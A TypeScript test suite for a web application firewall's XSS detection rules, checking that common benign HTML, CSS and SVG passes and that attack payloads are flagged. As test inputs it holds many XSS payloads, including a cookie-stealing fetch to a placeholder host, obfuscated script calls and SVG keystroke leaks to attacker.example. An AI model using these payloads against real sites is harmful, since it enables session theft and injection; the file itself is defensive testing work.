import { describe, expect, it } from 'vitest'
import { createWafEngine, type WafRequest } from '../index.ts'
import { decodeUtf7, tagBreakout } from './xss.ts'

const engine = createWafEngine({ level: 2 })
const rules = (r: WafRequest): string[] => engine.inspect(r).matches.map((m) => m.rule)
const json = (uri: string, type: string, body: unknown): WafRequest => ({ method: 'POST', uri, headers: { host: 'shop.example', 'content-type': type }, body: JSON.stringify(body) })
const cspReport = (sample: string): WafRequest =>
  json('/csp-report', 'application/csp-report', { 'csp-report': { 'document-uri': 'https://shop.example/', 'blocked-uri': 'inline', 'violated-directive': 'script-src-elem', 'script-sample': sample } })
const review = (body: string): WafRequest => json('/products/levis-501/reviews', 'application/json', { rating: 5, body })

describe('XSS findings on third-party shapes real browsers send (benign-platforms.ndjson)', () => {
  it('a function literal is not the Function constructor: the GTM and Meta pixel heads in a CSP script-sample pass, a sink inside one or a constructor call does not', () => {
    expect(rules(cspReport('(function(w,d,s,l,i){w[l]=w[l]||[];w[l].push'))).toEqual([])
    expect(rules(cspReport('!function(f,b,e,v,n,t,s){if(f.fbq)return;n=f'))).toEqual([])
    expect(rules(cspReport('(function(){alert(document.domain)})()'))).toContain('waf.xss.js-sink')
    expect(rules(cspReport("(function(a){setTimeout('x='+a,1)})"))).toContain('waf.xss.js-sink')
    expect(rules(cspReport("Function('return this')()"))).toContain('waf.xss.js-sink')
  })

  it('<meta charset> from a Google Docs paste passes; a <meta http-equiv=refresh> redirect is still blocked', () => {
    expect(rules(review('<meta charset="utf-8"><b style="font-weight:normal;" id="docs-internal-guid-a1b2"><span style="font-size:11pt">Love it</span></b>'))).toEqual([])
    expect(rules(review('<meta http-equiv="refresh" content="0;url=https://evil.example/">'))).toContain('waf.xss.risky-tag')
    expect(rules(review('<meta content="0;url=data:text/html;base64,PHNjcmlwdD4=" http-equiv="refresh">')).length).toBeGreaterThan(0)
  })
})

describe('XSS findings on back-office and customer HTML (benign-browser.ndjson)', () => {
  it("an HTML e-mail's <meta http-equiv=Content-Type> and <style type=text/css> are inert; refresh, set-cookie and other style attributes are not", () => {
    expect(rules(review('<head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"><style type="text/css" media="screen">body{margin:0}</style></head>'))).toEqual([])
    expect(rules(review('<meta http-equiv="Content-Type" http-equiv="refresh" content="0;url=https://evil.example/">'))).toContain('waf.xss.risky-tag')
    expect(rules(review('<meta http-equiv="Set-Cookie" content="sid=x">'))).toContain('waf.xss.risky-tag')
    expect(rules(review('<style type="text/javascript">alert(1)</style>'))).toContain('waf.xss.risky-tag')
    expect(rules(review('<style type="text/css" title=x>body{}</style>'))).toContain('waf.xss.risky-tag')
  })

  it('<meta name=… content=…> from a Word paste is metadata; content without a name still redirects', () => {
    expect(rules(review('<html><head><meta name=ProgId content=Word.Document><meta name=Generator content="Microsoft Word 15"></head><body><p class=MsoNormal>Dear team</p></body></html>'))).toEqual([])
    expect(rules(review('<meta content="0;url=javascript:alert(1)">'))).not.toEqual([])
    expect(rules(review('<meta name="x" http-equiv="refresh" content="0;url=https://evil.example/">'))).toContain('waf.xss.risky-tag')
  })

  it('a JSON-LD <script> is a data block the browser never runs; a script after it, a typed one with src, or code in it still count', () => {
    const ld = '<script type="application/ld+json">{"@context":"https://schema.org/","@type":"Product","name":"Teapot <350 ml>"}</script>'
    expect(rules(review(`<p>Nice teapot</p>\n${ld}\n<p>More</p>`))).toEqual([])
    expect(rules(review(`${ld}<script>fetch('//e.example/?'+document.cookie)</script>`))).toContain('waf.xss.script-tag')
    expect(rules(review('<script type="application/json" src="https://e.example/x.js"></script>'))).toContain('waf.xss.script-tag')
    expect(rules(review('<script type="text/javascript">var a = 1</script>'))).toContain('waf.xss.script-tag')
    expect(rules(review('<script type="application/ld+json">{"a":1}</script><img src=x onerror=alert(1)>'))).toContain('waf.xss.event-handler')
  })

  it('a bare <iframe> named in a sentence and never closed counts at level 3; one that frames content or stands alone at level 1', () => {
    expect(rules(review('Is this compatible with <iframe> embeds on Shopify? I want the widget on my page'))).toEqual([])
    expect(createWafEngine({ level: 3 }).inspect(review('Is this compatible with <iframe> embeds on Shopify?')).matches.map((m) => m.rule)).toContain('waf.xss.script-tag')
    expect(rules(review('<iframe> x </iframe>'))).toContain('waf.xss.script-tag')
    expect(rules(review('<iframe>'))).toContain('waf.xss.script-tag')
  })

  it('.innerHTML = in a stack frame of an error report assigns the page its own rendering; assigning markup, a string or the URL is injection', () => {
    const sentry = (line: string): WafRequest => json('/api/1/envelope/', 'text/plain;charset=UTF-8', { exception: { values: [{ stacktrace: { frames: [{ context_line: line, pre_context: ['  try {'] }] } }] } })
    expect(rules(sentry('    e.innerHTML = template(product)'))).toEqual([])
    for (const line of ['el.innerHTML = location.hash.slice(1)', 'd.body.innerHTML="<img src=x>"', 'x.innerHTML=`${name}`', 'x.innerHTML = decodeURIComponent(q)']) expect(rules(sentry(line)), line).toContain('waf.xss.dom-access')
  })

  it('an SVG data: URL that CSS loads as an image draws, it runs nothing; one a frame or link loads, or a handler inside, still counts', () => {
    const css = (v: string): WafRequest => json('/admin/themes/1/assets.json', 'application/json', { asset: { key: 'assets/custom.css', value: v } })
    expect(rules(css(`.header{background:url("data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' width='8' height='8'><path d='M0 0h8v8z' fill='%23eee'/></svg>")}`))).toEqual([])
    expect(rules(css("li{list-style-image:url(data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'/>)}"))).toEqual([])
    expect(rules(css('.x{background:url(data:image/svg+xml,<svg onload=alert(1)>)}'))).toContain('waf.xss.event-handler')
    expect(rules(css('<iframe src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'))).toContain('waf.xss.data-url')
    expect(rules(css("url('data:text/html,<b>hi</b>')"))).toContain('waf.xss.data-url')
    expect(rules(css(`url("data:image/svg+xml,<svg/>") <meta http-equiv="refresh" content="0;url=https://e.example/">`))).toContain('waf.xss.risky-tag')
  })
})

describe('a script scheme split by control characters', () => {
  const query = (v: string): WafRequest => ({ method: 'GET', uri: `/search?q=${encodeURIComponent(v)}`, headers: { host: 'shop.example' } })

  it('is still javascript: when numeric entities put C0 controls inside the scheme (java&#1&#2script:), as old WebKit read it', () => {
    for (const v of ['<a href=java&#1&#2&#3script:next>x</a>', '<a href=java&#11;&#12;script:next>x</a>']) expect(rules(query(v)), v).toContain('waf.xss.script-url')
  })

  it('leaves a URL whose path holds script: and a sentence about Java alone', () => {
    for (const v of ['<a href="https://java.example/script:1">x</a>', 'java script: the basics']) expect(rules(query(v)), v).toEqual([])
  })
})

describe('markup where no markup belongs', () => {
  const markup = '<IMG SRC="https://track.example/p.gif">'
  const at = (where: 'cookie' | 'ua' | 'path' | 'query' | 'form' | 'json', v: string): WafRequest => {
    const headers = { host: 'shop.example', 'user-agent': 'Mozilla/5.0', 'content-type': 'application/x-www-form-urlencoded' }
    if (where === 'cookie') return { method: 'GET', uri: '/account', headers: { ...headers, cookie: `pref=${encodeURIComponent(v)}` } }
    if (where === 'ua') return { method: 'GET', uri: '/', headers: { ...headers, 'user-agent': v } }
    if (where === 'path') return { method: 'GET', uri: `/products/${encodeURIComponent(v)}`, headers }
    if (where === 'query') return { method: 'GET', uri: `/search?q=${encodeURIComponent(v)}`, headers }
    if (where === 'form') return { method: 'POST', uri: '/contact', headers, body: `message=${encodeURIComponent(v)}` }
    return json('/api/cart', 'application/json', { note: v })
  }

  it('is injection in a cookie, a header or the path: a tag with an attribute, script or not (<IMG SRC=…>), a closing </title> or </textarea>, an IE conditional comment', () => {
    for (const where of ['cookie', 'ua', 'path'] as const) {
      for (const v of [markup, '<table background="https://evil.example/bg.png">', '</title>x', '</TEXTAREA >x', '<!--[if IE]>x<![endif]-->']) expect(rules(at(where, v)), `${where} ${v}`).toContain('waf.xss.markup-in-value')
    }
  })

  it('is what people type and paste in a query, a form field or JSON, and a cookie with a < but no tag passes', () => {
    for (const where of ['query', 'form', 'json'] as const) expect(rules(at(where, markup)), where).toEqual([])
    for (const v of ['a<b', '{"rating":"<3"}', '3 < 4 = true', '<title>', '<!-- x -->']) expect(rules(at('cookie', v)), v).toEqual([])
  })
})

describe('Internet Explorer markup that runs script', () => {
  it('<?import implementation=….htc> loads a behaviour; an XML declaration or stylesheet instruction is no tag', () => {
    expect(rules(review('<html xmlns:v><?import namespace="v" implementation="https://evil.example/b.htc"><v:x>hi</v:x></html>'))).toContain('waf.xss.script-tag')
    expect(rules(review('<?xml version="1.0" encoding="UTF-8"?><?xml-stylesheet type="text/xsl" href="feed.xsl"?><feed>new arrivals</feed>'))).toEqual([])
  })

  it('a tag bound to a data source rendered as HTML inserts markup; data-* attributes or a binding rendered as text do not', () => {
    expect(rules(review('<div datasrc=#feed datafld=body dataformatas=html></div>'))).toContain('waf.xss.risky-tag')
    expect(rules(review('<div data-src="/img/a.jpg" data-format="html" class="lazy">Sale</div>'))).toEqual([])
    expect(rules(review('<span datasrc=#feed datafld=price>9.99</span>'))).toEqual([])
  })
})

describe('a dialog passed as a callback', () => {
  it('runs when an array or a call result hands it to a method (XSStrike\'s [8].find(confirm))', () => {
    for (const v of ["';[8].find(confirm)//", "\\';[1].map(alert)//", '"-[0].forEach(prompt)-"']) expect(rules(review(v)), v).toContain('waf.xss.js-sink')
  })

  it('is prose when no array or call result precedes the method', () => {
    for (const v of ['see .map(alert) in the docs', 'Array.find(prompt) question', 'use (alert) here']) expect(rules(review(v)), v).toEqual([])
  })
})

describe('a frame tag after a breakout', () => {
  it('runs at level 2 when the value first closes the attribute and the tag it was placed in', () => {
    for (const v of ['"><iframe src="https://evil.example/x.html">', "'> <embed src=https://evil.example/a.swf>"]) expect(rules(review(v)), v).toContain('waf.xss.script-tag')
  })

  it('is still an inert embed when pasted as content, or when the quote and > are text before it', () => {
    for (const v of ['<iframe src="https://www.youtube.com/embed/abc" width="560"></iframe>', 'Size 9" > 8: <iframe src="https://www.youtube.com/embed/abc"></iframe>']) expect(rules(review(v)), v).toEqual([])
  })
})

describe('XSS findings on editor HTML staff and shoppers save (benign-text.ndjson)', () => {
  const at = (level: 1 | 2 | 3, body: string): string[] => createWafEngine({ level }).inspect(review(body)).matches.map((m) => m.rule)

  it('a frame of a fragment of the page (Quill\'s video embed with src="#") counts only at level 3', () => {
    for (const v of ['<h1>01<iframe src="#"></iframe>34</h1><p>67</p>', '<h1>01<a href="/"><iframe src="#"></iframe></a>34</h1><p>67</p>', '<p><iframe src="#video" width="100%"></iframe></p>']) {
      expect(at(2, v), v).toEqual([])
      expect(at(3, v), v).toContain('waf.xss.script-tag')
    }
  })

  it('a frame of a path on the site (an uploaded file), of another site written as a path (//host, /\\host), with a handler, srcdoc or script URL, or after a breakout still counts at level 1', () => {
    for (const v of ['<iframe src="/uploads/review-42.html"></iframe>', '<iframe src=//evil.example/x>', '<iframe src="/\\evil.example/x">', '<iframe src="#" onload="alert(1)">', '<iframe src="#" srcdoc="<script>alert(1)</script>">', '<iframe src="#" src="javascript:alert(1)">', '"><iframe src="#">']) {
      expect(at(1, v).some((r) => r.startsWith('waf.xss.')), v).toBe(true)
    }
  })
})

describe('CSS escapes in a style', () => {
  it('are read as CSS reads them: expression\\28 is expression(', () => {
    for (const v of ['<div style="x:expression\\28 alert(1)\\29">', '<p style="width:e\\xpression(x)">']) expect(rules(review(v)), v).toContain('waf.xss.css-script')
  })

  it('leave quotes and symbols written as escapes alone', () => {
    for (const v of ['<blockquote style="quotes:\\201C \\201D">Great</blockquote>', '<span style="font-family:\\5FAE\\8F6F\\96C5\\9ED1">Hi</span>']) expect(rules(review(v)), v).toEqual([])
  })

  it('hide a script URL that CSS loads: url(…) and @import written with escapes', () => {
    for (const v of ["<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a 3f6c1e0b'\\0029\">", "<style>@im\\port'\\ja\\vasc\\ript:3f6c1e0b';</style>"]) expect(rules(review(v)), v).toContain('waf.xss.css-script')
  })

  it('leave an escaped image or font URL, and a colon that a longer hex escape swallows (\\003a3f is U+3A3F, no scheme)', () => {
    for (const v of ['<div style="background:url(\\2f img\\2f bg.png)">', "<style>@import url('\\66onts.css');</style>", "<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a3f6c1e0b'\\0029\">"]) expect(rules(review(v)), v).toEqual([])
  })
})

describe('XSS findings on headless-shop traffic (benign-modern.ndjson)', () => {
  const design = (svg: string): WafRequest => json('/apps/customiser/api/designs', 'application/json', { side: 'front', svg })

  it("a product customiser's SVG design passes: an <svg> root that only names, sizes and paints the drawing, and a <style> without attributes holding its fonts", () => {
    expect(rules(design(`<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="1200" height="1200" viewBox="0 0 1200 1200"><defs><style>@font-face{font-family:'Pacifico';src:url('https://fonts.gstatic.com/s/pacifico/v22/a.woff2') format('woff2')}</style></defs><image xlink:href="https://cdn.shop.example/mug.png" width="1200" height="1200"/><text x="500" y="520" font-family="'Pacifico', cursive">I &lt;3 U</text></svg>`))).toEqual([])
    expect(rules(review('<p>Love it <svg class="icon" role="img" aria-hidden="true" focusable="false" viewBox="0 0 24 24"><path d="M12 2l3 7h7l-6 4 2 7-6-4-6 4 2-7-6-4h7z"/></svg></p>'))).toEqual([])
    expect(rules(review('<svg aria-hidden="true" focusable="false" data-prefix="fas" data-icon="cart-shopping" class="svg-inline--fa" role="img" xmlns="http://www.w3.org/2000/svg" viewBox="0 0 576 512"><path fill="currentColor" d="M0 24C0 10.7 10.7 0 24 0z"></path></svg>'))).toEqual([])
    expect(rules(review('<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" x="0px" y="0px" viewBox="0 0 512 512" style="enable-background:new 0 0 512 512;" xml:space="preserve"><g><path d="M256 0z"/></g></svg>'))).toEqual([])
  })

  it('an <svg> with any other attribute, a script or handler inside the drawing, and a <style> with attributes or script in its CSS still count', () => {
    expect(rules(design('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'))).toContain('waf.xss.event-handler')
    expect(rules(design('<svg xmlns="http://www.w3.org/2000/svg" width="10" contentScriptType="text/ecmascript">'))).toContain('waf.xss.risky-tag')
    expect(rules(design('<svg viewBox="0 0 9 9"><script>alert(1)</script></svg>'))).toContain('waf.xss.script-tag')
    expect(rules(design('<svg width="9"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'))).toContain('waf.xss.script-url')
    expect(rules(design('<style onload=alert(1)>'))).toContain('waf.xss.event-handler')
    expect(rules(design('<style nonce="x">p{color:red}</style>'))).toContain('waf.xss.risky-tag')
    expect(rules(design('<style>p{behavior:url(/a.htc)}</style>'))).toContain('waf.xss.css-script')
    expect(rules(design('<svg style="width:expression(alert(document.cookie))" viewBox="0 0 9 9">')).length).toBeGreaterThan(0)
  })
})

describe("JavaScript that hides the name of what it reaches (dalfox's in-JavaScript and DOM lists)", () => {
  it('a window global indexed by a key built from literals, this["alert"] and octal escapes that decode to a script tag count', () => {
    expect(rules(review('top[/al/.source+/ert/.source](/XSS/.source)'))).toContain('waf.xss.dom-access')
    expect(rules(review('globalThis[(+{}+[])[+!![]]+(![]+[])[!+[]+!![]]]((+{}+[])[+!![]]);'))).toContain('waf.xss.dom-access')
    expect(rules(review("this[/*foo*/'alert'/*bar*/](this[/*foo*/'document'/*bar*/]['domain'])"))).toContain('waf.xss.dom-access')
    expect(rules(review('\\74/scrIpt\\76\\74script\\76alert(1)\\74/scrIpt\\76'))).toContain('waf.xss.script-tag')
  })

  it('code indexing a global by a variable or a number, this["…"] of a page name, and backslashes before digits in prose pass', () => {
    for (const v of ['window[callbackName](data)', 'frames[0].postHeight()', "this['price'] = this['price'] * 2", 'regex (a)\\1\\2 matches aa; the file sits in C:\\74 folder']) expect(rules(review(v)), v).toEqual([])
  })
})

describe('a tag written in UTF-7', () => {
  it('decodes +…- runs as base64 of UTF-16', () => {
    expect(decodeUtf7('+ADw-script+AD4-alert(1)+ADw-/script+AD4-')).toBe('<script>alert(1)</script>')
    expect(decodeUtf7('1+1 = 2')).toBe('1+1 = 2')
  })
})

describe('a script tag sent in UTF-7', () => {
  const rules = (level: 1 | 2, q: string): string[] => createWafEngine({ level }).inspect({ method: 'GET', uri: `/s?q=${encodeURIComponent(q)}`, headers: { host: 'shop.example' } }).matches.map((m) => m.rule)

  it('counts from level 2, since no current browser decodes UTF-7', () => {
    expect(rules(2, '+ADw-script+AD4-')).toEqual(['waf.xss.script-tag'])
    expect(rules(1, '+ADw-script+AD4-')).toEqual([])
    expect(rules(2, 'C++ADw-rocks and 1+1=2 +ADw- hmm')).toEqual([])
  })
})

describe('a run of quotes and ">" that closes what the value landed in, straight into a tag (the scanners\' markup probe)', () => {
  const query = (q: string): WafRequest => ({ method: 'GET', uri: `/search?q=${encodeURIComponent(q)}`, headers: { host: 'shop.example' } })

  it('is found at the start of the value, after one word, a path or an HTML comment\'s end', () => {
    for (const v of ['-->">\'>\'"<sfi000002v123456>', 'probe>\'>"></probe><probe>', '/products/x">\'><abc>', '\'">\'<svgx>']) expect(tagBreakout(v.toLowerCase()), v).toBeGreaterThanOrEqual(0)
    expect(rules(query('-->">\'>\'"<sfi000002v123456>'))).toContain('waf.xss.tag-breakout')
  })

  it('is not a short breakout, a run without both a quote and ">", nor one after prose', () => {
    for (const v of ['"><b>bold', '>>>"quoted"<i>', 'I rate it 5 ">\'<b>', '>>>><b>', "'''<b>", '5\'10" <b>tall</b>']) expect(tagBreakout(v.toLowerCase()), v).toBe(-1)
  })
})

describe('an SVG animation of an href (html5sec\'s scriptless keystroke leak)', () => {
  it('is a risky tag at level 2 where <set> or <animate> changes an href, not where a drawing animates its paint', () => {
    expect(rules(review('<svg height="50px"><image xmlns:xlink="http://www.w3.org/1999/xlink"><set attributeName="xlink:href" begin="accessKey(a)" to="//attacker.example/?a" /></image></svg>'))).toEqual(['waf.xss.risky-tag'])
    expect(rules(review('<svg><a><animate attributeName=href values=//attacker.example/ /><text>x</text></a></svg>'))).toEqual(['waf.xss.risky-tag'])
    expect(rules(review('<svg viewBox="0 0 10 10"><circle r="4"><animate attributeName="opacity" values="0;1" dur="2s" repeatCount="indefinite"/></circle></svg>'))).toEqual([])
    expect(rules(review('In SMIL you set attributeName = href on the animation element'))).toEqual([])
  })
})

describe('XSS findings on theme code staff save (benign-admin.ndjson)', () => {
  const at = (level: 1 | 2 | 3, body: string): string[] => createWafEngine({ level }).inspect(review(body)).matches.map((m) => m.rule)

  it('a click handler calling a page function with a template placeholder of a named value counts only at level 3, its quotes escaped too (markup in a JSON string)', () => {
    for (const v of ['<a href="#" onclick="remove_item({{item.variant.id}}); return false;" class="remove">x</a>', '<button onclick="addToCart({{ product.id }}, 1)">Add</button>', '{"custom_liquid":"<a href=\\"#\\" onclick=\\"remove_item({{item.variant.id}}); return false;\\">x</a>"}']) {
      expect(at(2, v), v).toEqual([])
      expect(at(3, v), v).toContain('waf.xss.event-handler')
    }
  })

  it('a placeholder with a filter, a call or an expression, a browser global, or an event that fires by itself still counts at level 1', () => {
    for (const v of ['<a onclick="remove_item({{ id | append: x }})">x</a>', '<a onclick="remove_item({{ x.y() }})">x</a>', '<a onclick="alert({{item.id}})">x</a>', '<img src=x onerror="remove_item({{item.id}})">', '<a onclick="f({{a}}+document.cookie)">x</a>', '{"h":"<a onclick=\\"alert(1)\\">x</a>"}', '<a onclick=\\"f(1)\\" onmouseover=\\"fetch(1)\\">x</a>']) {
      expect(at(1, v).some((r) => r.startsWith('waf.xss.')), v).toBe(true)
    }
  })
})
